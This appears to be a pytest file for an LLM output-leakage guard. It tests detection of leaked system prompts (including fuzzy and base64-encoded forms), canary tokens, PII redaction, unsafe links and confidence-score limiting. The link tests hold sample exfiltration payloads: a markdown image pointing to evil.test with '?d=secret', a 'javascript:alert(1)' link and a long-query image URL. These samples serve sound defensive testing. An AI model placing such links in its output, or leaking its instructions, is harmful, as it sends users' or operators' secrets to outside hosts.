from __future__ import annotations

import base64
import math
from dataclasses import dataclass

import pytest

from bastion.core.plugins import Guard, GuardInput
from bastion.guard import ConfidenceLimiter, LeakageGuard

SYSTEM = (
    "You are HelpBot for Acme Bank. Never discuss interest rates for internal products. Escalate fraud to level two."
)


def out(text: str | None, **kw: object) -> GuardInput:
    return GuardInput(direction="output", text=text, **kw)  # type: ignore[arg-type]


def test_protocol() -> None:
    assert isinstance(LeakageGuard(), Guard) and isinstance(ConfidenceLimiter(), Guard)


def test_system_prompt_exact_fuzzy_and_encoded() -> None:
    g = LeakageGuard(system_prompt=SYSTEM, pii=False)
    assert not g.check(out("Sure! My instructions: " + SYSTEM)).allowed
    respaced = "you   are HELPBOT for acme-bank... never discuss interest\u200b rates for internal products"
    v = g.check(out(respaced))
    assert not v.allowed and any("system_prompt_leak" in r for r in v.reasons)
    enc = base64.b64encode(SYSTEM.encode()).decode()
    assert not g.check(out(f"Here you go: {enc}")).allowed
    assert g.check(out("Our branch opens at 9am. How else can I help?")).allowed


def test_system_prompt_from_request_context() -> None:
    g = LeakageGuard(pii=False)
    assert not g.check(out("I was told: " + SYSTEM, system_prompt=SYSTEM)).allowed


def test_canary() -> None:
    g = LeakageGuard(canaries=["CANARY-7f3a9c"], pii=False)
    assert not g.check(out("debug: canary-7f3a9c")).allowed
    assert not g.check(out("C A N A R Y - 7 f 3 a 9 c")).allowed
    assert g.check(out("nothing here")).allowed


@dataclass
class E:
    start: int
    end: int
    entity_type: str
    score: float = 0.9


def test_pii_redacted_with_injected_engine() -> None:
    text = "Contact jane@example.org now"
    g = LeakageGuard(detect=lambda t: [E(8, 24, "EMAIL_ADDRESS")])
    v = g.check(out(text))
    assert v.allowed and v.text == "Contact [EMAIL_ADDRESS] now"
    assert "jane" not in " ".join(v.reasons) + str(v.details)
    blocking = LeakageGuard(detect=lambda t: [E(8, 24, "EMAIL_ADDRESS")], pii_action="block")
    assert not blocking.check(out(text)).allowed


def test_pii_with_real_engine() -> None:
    g = LeakageGuard()
    v = g.check(out("Your card 4539 1488 0343 6467 is on file."))
    assert v.text is not None and "4539 1488 0343 6467" not in v.text


def test_unsafe_links() -> None:
    g = LeakageGuard(pii=False, allowed_hosts=["acme.example"])
    v = g.check(out("see ![x](https://evil.test/p.png?d=secret) and https://docs.acme.example/a"))
    assert v.allowed and v.text is not None and "evil.test" not in v.text and "docs.acme.example" in v.text
    g2 = LeakageGuard(pii=False, link_action="block")
    assert not g2.check(out("click javascript:alert(1)")).allowed
    assert not g2.check(out("![i](https://x.test/i.png?q=" + "A" * 80 + ")")).allowed


def test_detector_crash_fails_closed() -> None:
    g = LeakageGuard(detect=lambda t: 1 / 0)  # type: ignore[arg-type,return-value]
    v = g.check(out("hello"))
    assert not v.allowed and "internal error" in v.details["error"]
    g_open = LeakageGuard(detect=lambda t: 1 / 0, fail_closed=False)  # type: ignore[arg-type,return-value]
    assert g_open.check(out("hello")).allowed


def test_confidence_limiter() -> None:
    lim = ConfidenceLimiter(top_k=2, decimals=1)
    assert lim.limit([0.12, 0.61, 0.27]) == [0.0, 0.6, 0.3]
    assert lim.limit([[0.5, 0.5, 0.0]]) == [[0.5, 0.5, 0.0]]
    assert ConfidenceLimiter(labels_only=True).limit([[0.1, 0.9], [0.8, 0.2]]) == [1, 0]
    v = lim.check(GuardInput(direction="output", outputs=[0.2, 0.8, 0.0]))
    assert v.allowed and v.outputs == [0.2, 0.8, 0.0]


@pytest.mark.parametrize("bad", [[math.nan, 0.5], [[0.1], [0.2, 0.3]], "abc", [], [[math.inf]]])
def test_confidence_limiter_bad_outputs(bad: object) -> None:
    v = ConfidenceLimiter().check(GuardInput(direction="output", outputs=bad))
    assert not v.allowed and "error" in v.details
